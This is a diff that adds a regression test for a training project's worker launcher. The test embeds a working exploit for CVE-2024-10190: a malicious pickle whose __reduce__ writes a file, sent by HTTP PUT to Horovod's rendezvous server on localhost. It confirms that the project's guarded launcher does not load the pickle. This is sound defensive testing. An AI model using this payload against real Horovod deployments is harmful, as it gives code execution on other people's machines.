@@ -1,4 +1,31 @@
-"""Workers that were launched, but that Horovod does not bring together."""
+"""How workers are launched: what Horovod does not bring together, and what it lets in."""
+
+import pytest
+
+# Sends Horovod's own server a pickle that writes a file when it is loaded.
+ATTACK = """
+import base64, contextlib, pickle, sys, types, urllib.request
+from horovod.runner import launch
+
+class Evil:
+    def __reduce__(self):
+        return open, (sys.argv[1], "w")
+
+def attack():
+    from horovod.runner.elastic.rendezvous import create_rendezvous_handler
+    from horovod.runner.http.http_server import RendezvousServer
+    handler = create_rendezvous_handler(types.SimpleNamespace())
+    port = RendezvousServer(0).start(handler_cls=handler)
+    url = f"http://127.0.0.1:{port}/worker_addresses/localhost:0"
+    data = base64.b64encode(pickle.dumps(Evil()))
+    with contextlib.suppress(OSError):
+        urllib.request.urlopen(urllib.request.Request(url, data=data, method="PUT"), timeout=5)
+    sys.exit(3)
+
+from training import workers
+launch.run_commandline = attack
+%s()
+"""
 
 
 def test_mpirun_without_mpi_in_horovod_is_refused(run_process, tmp_path):
@@ -9,3 +36,13 @@ def test_mpirun_without_mpi_in_horovod_is_refused(run_process, tmp_path):
     assert ran.returncode == 2
     assert "2 workers were launched, but Horovod finds 1" in ran.stderr
     assert not (tmp_path / "run").exists()
+
+
+@pytest.mark.parametrize(
+    ("launcher", "written"), [("attack", True), ("workers.guarded_horovodrun", False)]
+)
+def test_our_launcher_loads_no_pickle(run_process, tmp_path, launcher, written):
+    """CVE-2024-10190; Horovod's own does, which shows that the attack is one."""
+    ran = run_process("-c", ATTACK % launcher, tmp_path / "written")
+    assert ran.returncode == 3, ran.stderr
+    assert (tmp_path / "written").exists() == written
